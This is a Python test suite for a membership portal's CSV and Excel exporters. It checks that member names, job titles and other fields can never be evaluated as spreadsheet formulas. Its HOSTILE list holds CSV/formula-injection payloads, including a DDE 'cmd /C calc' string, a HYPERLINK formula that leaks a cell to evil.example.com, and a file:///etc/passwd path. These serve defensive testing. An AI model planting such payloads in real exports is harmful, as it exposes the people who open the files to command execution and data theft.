"""No cell of a list that leaves the portal is ever calculated (threat S11): neither in CSV nor in a workbook."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from comms.members import about, exports, sheets
from comms.members.lists import Wanted
from comms.members.models import ListExport, RolePower
from comms.people.scope import Scope
from tests.factories import make_member

ROOT = Path(__file__).parent.parent.parent
CALLS = ["cmd|' /C calc'!A0", "1+1", 'HYPERLINK("https://evil.example.com/?"&A1,"Click")', "SUM(A1:A9)*cmd|'x'!A0"]
SIGNS = [
    *"=+-@",
    "\t=",
    "\r=",
    "\n=",
    "\t",
    "\r",
    "＝",
    "＋",
    "－",
    "＠",
    "﹢",
    "﹦",
    "−",
    " =",
    "\u00a0=",
    "\u200b=",
    "\ufeff=",
]
HOSTILE = [
    *(f"{sign}{call}" for sign in SIGNS for call in CALLS),
    *SIGNS,
    "Eva;=1+1", "Eva,=1+1", "Eva, =1+1", "Eva\t=1+1", "Eva\n=1+1", "Eva\r\n@SUM(A1)",  # for other delimiters
    '"', '"=1+1"', '";=1+1;"', '",=1+1,"', "'=1+1", "''", "\\", "a;b", "a,b", "a\nb", "a\r\nb", "<b>&amp;</b>", "]]>",
    "https://evil.example.com", "mailto:eva@example.com", "file:///etc/passwd", "\\\\evil.example.com\\share",
    "+46701740605", "-5", "1e5", "00123", "2027-01-02", "TRUE", "#REF!", "{=1+1}", "_x003D_1+1", "%0A=1", "",
    "Åsa Öberg", "Þorsteina-Máret", "O'Brien", "李明", "👩‍🔧",
]  # fmt: skip
BEGINS = re.compile("[\\s\u200b\ufeff]*[-=+@＝＋－＠﹢﹦−]")


def table(values: list[str]) -> sheets.Table:
    return sheets.Table(
        head=["=A1", "Namn"], lines=[[value, "x"] for value in values], about=[("@om", value) for value in values],
        names=("Medlemmar", "Om listan"), foot="=1&P",
    )  # fmt: skip


def as_csv(values: list[str], *, delimiter: str = ";") -> list[list[str]]:
    target = io.BytesIO()
    sheets.write_csv(target, table(values))
    return list(csv.reader(io.StringIO(target.getvalue().decode("utf-8-sig"), newline=""), delimiter=delimiter))


def as_xlsx(values: list[str]) -> io.BytesIO:
    target = io.BytesIO()
    sheets.write_xlsx(target, table(values))
    target.seek(0)
    return target


def unguarded(cell: str) -> str:
    return cell.replace("'", "")


# --- CSV ------------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_no_cell_of_a_csv_begins_like_a_formula_whatever_its_delimiter_is_taken_for(delimiter):
    cells = [cell for line in as_csv(HOSTILE, delimiter=delimiter) for cell in line]
    assert [cell for cell in cells if BEGINS.match(cell)] == []
    if delimiter == ";":
        assert [cell for cell in cells if cell[:1] in {"\t", "\r", "\n"}] == []


def test_the_text_of_a_csv_is_what_was_written_but_for_the_guard():
    lines = as_csv(HOSTILE)[len(HOSTILE) + 2 :]
    assert [unguarded(line[0]) for line in lines] == [unguarded(value) for value in HOSTILE]
    assert {line[1] for line in lines} == {"x"}


@pytest.mark.parametrize("value", ["Åsa Öberg", "O'Brien", "Anna-Lena", "1", "a;b", "–", "C#", ""])
def test_an_ordinary_value_is_left_alone(value):
    assert sheets.guarded(value) == value


def test_excel_knows_that_it_is_utf_8():
    target = io.BytesIO()
    sheets.write_csv(target, table(["Öberg"]))
    assert target.getvalue().startswith(b"\xef\xbb\xbf")
    assert "Öberg".encode() in target.getvalue()


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0")))
def test_whatever_is_typed_one_cell_stays_one_cell_and_calculates_nothing(value):
    line = as_csv([value])[-1]
    assert unguarded(line[0]) == unguarded(value)
    assert line[1:] == ["x"]
    assert not BEGINS.match(line[0])


# --- Excel ----------------------------------------------------------------------------------------------------------
def test_every_cell_of_a_workbook_is_text_and_says_what_was_written():
    book = openpyxl.load_workbook(as_xlsx(HOSTILE))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}
    assert {cell.hyperlink for cell in cells} == {None}
    said = [row[0].value or "" for row in book["Medlemmar"].iter_rows(min_row=2)]
    assert said == [value.replace("_x003D_", "_x005F_x003D_") for value in HOSTILE]  # a reader of Excel's takes it back
    assert [row[0].value for row in book["Medlemmar"].iter_rows(max_row=1)] == ["=A1"]


def test_another_reader_finds_the_same_text():
    rows = CalamineWorkbook.from_filelike(as_xlsx(HOSTILE)).get_sheet_by_name("Medlemmar").to_python()[1:]
    plain = [
        (row[0], value) for row, value in zip(rows, HOSTILE, strict=True) if "\r" not in value and "_x" not in value
    ]
    assert [read for read, _value in plain] == [value for _read, value in plain]


def test_a_workbook_knows_no_formula_link_or_macro():
    with zipfile.ZipFile(as_xlsx(HOSTILE)) as book:
        assert book.testzip() is None
        parts = {name: book.read(name).decode() for name in book.namelist()}
    assert not [name for name, part in parts.items() if re.search(r"<f[ >]|<hyperlink|externalLink|vbaProject", part)]
    assert "&amp;C=1&amp;&amp;P</oddFooter>" in parts["xl/worksheets/sheet1.xml"]  # no field of its own either


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0")))
def test_a_workbook_opens_whatever_is_typed(value):
    book = openpyxl.load_workbook(as_xlsx([value]))
    assert {cell.data_type for row in book["Medlemmar"].iter_rows() for cell in row} == {"s"}


# --- the whole way --------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_hostile_names_and_jobs_come_out_as_text(union, format):
    RolePower.objects.create(role="representative", power="export", allowed=True)
    for n, value in enumerate(value for value in HOSTILE if value.strip()):
        member = make_member(value[:100], f"{n:03}", placed=[union.branch_a], email=f"=e{n}@example.com")
        member.placements.create(unit=union.workplace, start="2020-01-01", position=value[:100], main_employer=True)
    mandate = union.mandate(union.alice)
    now, keys = timezone.now(), ["position", "employer", "email"]
    export = exports.order(
        mandate=mandate, by=union.alice, scope=Scope.of_mandate(mandate, on=timezone.localdate()), wanted=Wanted(),
        keys=keys, format=format, reason="=1+1 till mötet", now=now,
    )  # fmt: skip
    assert exports.make(export.pk, now=now)
    export = ListExport.objects.get(pk=export.pk)
    path = exports.hand_over(export, scope=Scope.of_mandate(mandate, on=timezone.localdate()), now=now)
    if format == "xlsx":
        cells = [cell for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
        assert "=1+1 till mötet" in [cell.value for cell in cells]
    else:
        text = path.read_text("utf-8-sig")
        cells = [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in line]
        assert [cell for cell in cells if BEGINS.match(cell) or cell[:1] in {"\t", "\r"}] == []
        assert "'=1+1 till mötet" in cells
        assert len([cell for cell in cells if re.fullmatch(r"'=e\d+@example\.com", cell)]) == export.count


def test_no_other_part_of_the_product_writes_tables():
    writes = re.compile(r"csv\.(writer|DictWriter)|openpyxl|xlsxwriter|text/csv|spreadsheetml\.sheet\b.*content_type")
    files = [path for room in ("comms", "mailings", "cms", "templates_lib") for path in (ROOT / room).rglob("*.py")]
    found = {str(path.relative_to(ROOT)) for path in files if writes.search(path.read_text())}
    assert found == {"comms/members/sheets.py", "comms/members/export_views.py", "templates_lib/filekinds.py"}


def test_the_name_of_the_file_says_nothing_about_anybody(union):
    export = ListExport(by=union.alice, created_at=timezone.now(), format="csv")
    assert re.fullmatch(r"\w+-\d{4}-\d\d-\d\d-\d{4}-[0-9a-f]{6}\.csv", about.file_name(export))
